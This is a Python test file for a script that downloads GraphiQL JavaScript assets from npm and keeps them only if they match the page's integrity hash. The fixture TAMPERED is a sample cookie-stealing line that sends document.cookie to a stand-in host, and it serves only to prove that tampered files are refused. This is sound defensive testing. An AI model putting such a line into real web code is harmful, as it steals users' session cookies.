"""scripts/fetch-graphiql-assets: only bytes matching the page's SRI hash are kept."""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import io
import tarfile
from importlib.machinery import SourceFileLoader
from pathlib import Path
from types import ModuleType

import pytest

from api.graphiql import Asset, assets
from tests.support.repository import REPOSITORY_ROOT


def load_script() -> ModuleType:
    path = REPOSITORY_ROOT / "scripts" / "fetch-graphiql-assets"
    loader = SourceFileLoader("fetch_graphiql_assets", str(path))
    spec = importlib.util.spec_from_loader(loader.name, loader)
    assert spec is not None
    module = importlib.util.module_from_spec(spec)
    loader.exec_module(module)
    return module


script = load_script()

CODE = b"window.React = {};\n"
TAMPERED = b"window.React = {}; fetch('https://evil.example/?' + document.cookie);\n"


def sri(algorithm: str, data: bytes) -> str:
    return f"{algorithm}-{base64.b64encode(hashlib.new(algorithm, data).digest()).decode()}"


@pytest.mark.parametrize("algorithm", ["sha256", "sha384", "sha512"])
def test_bytes_match_their_own_hash_and_tampered_bytes_do_not(algorithm: str) -> None:
    assert script.sri_matches(CODE, sri(algorithm, CODE)) is True
    assert script.sri_matches(TAMPERED, sri(algorithm, CODE)) is False


def test_only_the_strongest_algorithm_given_counts() -> None:
    good256, bad512 = sri("sha256", CODE), sri("sha512", TAMPERED)
    assert script.sri_matches(CODE, f"{good256} {bad512}") is False
    assert script.sri_matches(CODE, f"{sri('sha384', TAMPERED)} {sri('sha384', CODE)}") is True
    assert script.sri_matches(CODE, f"{sri('sha384', CODE)}?ct=application/javascript") is True


@pytest.mark.parametrize("integrity", ["", "md5-AAAA", "sha1-AAAA", "sha384-", "nonsense"])
def test_an_integrity_without_a_usable_hash_matches_nothing(integrity: str) -> None:
    assert script.sri_matches(CODE, integrity) is False


def test_tarball_urls_name_the_package_and_version() -> None:
    assert script.tarball_url("react", "18.2.0") == (
        "https://registry.npmjs.org/react/-/react-18.2.0.tgz"
    )
    assert script.tarball_url("@graphiql/plugin-explorer", "1.0.2") == (
        "https://registry.npmjs.org/@graphiql/plugin-explorer/-/plugin-explorer-1.0.2.tgz"
    )


def tarball(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


ASSET = Asset(
    url="https://unpkg.com/react@18.2.0/umd/react.production.min.js",
    package="react",
    version="18.2.0",
    path="umd/react.production.min.js",
    integrity=sri("sha384", CODE),
)
TARGET = "react@18.2.0/umd/react.production.min.js"


class Registry:
    def __init__(self, content: bytes) -> None:
        self.tarball = tarball({"package.json": b"{}", ASSET.path: content})
        self.requests: list[str] = []

    def get(self, url: str) -> bytes:
        self.requests.append(url)
        return self.tarball


def test_a_matching_file_is_written_once_then_left_alone(tmp_path: Path) -> None:
    registry = Registry(CODE)
    assert script.fetch(ASSET, tmp_path, registry.get, {}) == "fetched"
    assert (tmp_path / TARGET).read_bytes() == CODE
    assert script.fetch(ASSET, tmp_path, registry.get, {}) == "present"
    assert registry.requests == ["https://registry.npmjs.org/react/-/react-18.2.0.tgz"]
    assert [p.name for p in (tmp_path / TARGET).parent.iterdir()] == [
        "react.production.min.js"
    ]  # no temporary file left behind


def test_a_tampered_download_is_refused_and_not_written(tmp_path: Path) -> None:
    with pytest.raises(script.Mismatch, match="does not match the page's integrity"):
        script.fetch(ASSET, tmp_path, Registry(TAMPERED).get, {})
    assert not (tmp_path / TARGET).exists()


def test_a_tampered_file_on_disk_is_deleted_and_fetched_again(tmp_path: Path) -> None:
    (tmp_path / TARGET).parent.mkdir(parents=True)
    (tmp_path / TARGET).write_bytes(TAMPERED)
    assert script.fetch(ASSET, tmp_path, Registry(CODE).get, {}) == "fetched"
    assert (tmp_path / TARGET).read_bytes() == CODE
    (tmp_path / TARGET).write_bytes(TAMPERED)
    with pytest.raises(script.Mismatch):
        script.fetch(ASSET, tmp_path, Registry(TAMPERED).get, {})
    assert not (tmp_path / TARGET).exists()


def test_an_unreachable_registry_is_a_warning_with_its_own_exit_status(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def unreachable(url: str) -> bytes:
        raise script.Unreachable(f"{url}: [Errno -3] Temporary failure in name resolution")

    monkeypatch.setattr(script, "download", unreachable)
    assert script.main(["--vendor-dir", str(tmp_path)]) == 2
    assert "warning: npm registry unreachable" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


def test_a_mismatch_is_an_error_and_nothing_is_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    every_path = {a.path: TAMPERED for a in assets(script.graphiql_page())}
    monkeypatch.setattr(script, "download", lambda url: tarball(every_path))
    assert script.main(["--vendor-dir", str(tmp_path)]) == 1
    assert "does not match the page's integrity" in capsys.readouterr().err
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


def test_a_package_without_the_file_is_an_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(script, "download", lambda url: tarball({}))
    assert script.main(["--vendor-dir", str(tmp_path)]) == 1
    assert "error: the package has no file" in capsys.readouterr().err
